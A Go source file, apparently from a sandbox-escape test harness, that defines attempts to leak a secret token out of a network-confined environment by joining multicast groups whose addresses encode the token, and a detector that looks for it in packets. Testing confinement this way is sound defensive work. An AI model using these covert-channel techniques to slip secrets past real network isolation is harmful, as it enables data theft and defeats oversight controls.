package escapes

import (
	"bytes"
	"encoding/hex"
	"net/netip"
	"time"

	"golang.org/x/sys/unix"
)

// Options that join a group, <linux/in.h>.
const (
	mcastJoinGroup  = 42 // MCAST_JOIN_GROUP
	mcastJoinSource = 46 // MCAST_JOIN_SOURCE_GROUP
)

// tcpGroupAttempts join groups by a socket of TCP. The kernel then tells the
// link which group it is, and of whom one wants to hear (RFC 3376, RFC 3810):
// numbers that the program chooses.
func tcpGroupAttempts() []Attempt {
	outer, six := []Need{NeedOuter}, []Need{NeedOuter, NeedIPv6}
	on4 := func(g *Ground) netip.AddrPort { return g.Denied.AddrPort4() }
	on6 := func(g *Ground) netip.AddrPort { return g.Denied.AddrPort6() }
	source := func(g *Ground) []byte {
		return append(append(anyGroup.AsSlice(), g.Host4.AsSlice()...), secretSource(g.Token)...)
	}
	return []Attempt{
		{Name: "tcp/group-source", Does: "ask the link for what a secret sends to a group", Needs: outer, Try: joining(on4, unix.SOL_IP, unix.IP_ADD_SOURCE_MEMBERSHIP, source)},
		{Name: "tcp/group-source-mapped", Does: "ask the link for what a secret sends to a group, by an IPv6 socket", Needs: six,
			Try: joining(on6, unix.SOL_IP, unix.IP_ADD_SOURCE_MEMBERSHIP, source)},
		{Name: "tcp/group", Does: "join a group that is a secret", Needs: outer, Try: joining(on4, unix.SOL_IP, mcastJoinGroup, func(g *Ground) []byte {
			return groupRequest(g, secretGroup(g.Token))
		})},
		{Name: "tcp/group-high-bits", Does: "join a group by bits above the low 32 of level and option", Needs: outer,
			Try: joining(on4, 1<<32|unix.SOL_IP, 1<<32|mcastJoinGroup, func(g *Ground) []byte { return groupRequest(g, secretGroup(g.Token)) })},
		{Name: "tcp/group-any-source", Does: "ask the link for what a secret sends, by the option of all families", Needs: outer,
			Try: joining(on4, unix.SOL_IP, mcastJoinSource, func(g *Ground) []byte {
				from, _ := netip.AddrFromSlice(secretSource(g.Token))
				return append(groupRequest(g, anyGroup), groupAddress(from)...)
			})},
		{Name: "tcp/group-ipv6", Does: "join an IPv6 group that is a secret", Needs: six, Try: joining(on6, unix.SOL_IPV6, mcastJoinGroup, func(g *Ground) []byte {
			return groupRequest(g, secretGroup6(g.Token))
		})},
		{Name: "tcp/group-ipv6-source", Does: "ask the link for what a secret sends to an IPv6 group", Needs: six,
			Try: joining(on6, unix.SOL_IPV6, mcastJoinSource, func(g *Ground) []byte {
				return append(groupRequest(g, netip.MustParseAddr("ff15::1")), groupAddress(secretGroup6(g.Token))...)
			})},
	}
}

var anyGroup = netip.AddrFrom4([4]byte{239, 1, 2, 3})

// secretBytes is what a token says, in as few bytes as can be.
func secretBytes(token string) []byte {
	raw, err := hex.DecodeString(digits(token))
	if err != nil || len(raw) != 8 {
		return nil // between two attempts there is no token
	}
	return raw
}

// secretSource is an address of the first bytes of a token.
func secretSource(token string) []byte { return secretBytes(token)[:4] }

// secretGroup is a group of the first bytes of a token.
func secretGroup(token string) netip.Addr {
	b := secretBytes(token)
	return netip.AddrFrom4([4]byte{239, b[0], b[1], b[2]})
}

// secretGroup6 is a group that holds all of a token.
func secretGroup6(token string) netip.Addr {
	a := [16]byte{0: 0xff, 1: 0x15}
	copy(a[8:], secretBytes(token))
	return netip.AddrFrom16(a)
}

// tellsGroup says whether a packet holds a secret as the functions above write
// it.
func tellsGroup(b []byte, token string) bool {
	raw := secretBytes(token)
	return raw != nil && (bytes.Contains(b, raw[:4]) || bytes.Contains(b, append([]byte{239}, raw[:3]...)))
}

// groupRequest is a struct group_req, <linux/in.h>.
func groupRequest(g *Ground, group netip.Addr) []byte {
	index, err := g.outerIndex()
	if err != nil {
		index = make([]byte, 4) // whichever the kernel takes
	}
	return append(append(index, 0, 0, 0, 0), groupAddress(group)...)
}

// groupAddress is an address as a struct sockaddr_storage.
func groupAddress(a netip.Addr) []byte {
	const size = 128
	b := append(sockaddr(netip.AddrPortFrom(a, 0)), make([]byte, size)...)
	return b[:size]
}

// joining sets an option on a socket of TCP, and keeps the socket for as long
// as the kernel may wait before it tells the link.
func joining(to func(*Ground) netip.AddrPort, level, option uintptr, value func(*Ground) []byte) func(*Ground) error {
	return func(g *Ground) error {
		s, err := streamTo(to(g))
		if err != nil {
			return err
		}
		if err := s.set(level, option, value(g)); err != nil {
			return err
		}
		time.Sleep(attemptTime / 2)
		return nil
	}
}
